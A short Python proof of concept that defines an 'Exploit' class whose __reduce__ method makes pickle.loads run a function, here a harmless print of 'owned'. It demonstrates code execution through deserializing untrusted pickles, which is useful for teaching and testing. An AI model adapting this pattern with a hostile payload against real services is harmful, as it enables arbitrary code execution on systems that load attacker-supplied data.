import pickle


class Exploit:
    """Runs when it is loaded."""

    def __reduce__(self):
        return (print, ("owned",))


pickle.loads(pickle.dumps(Exploit()))
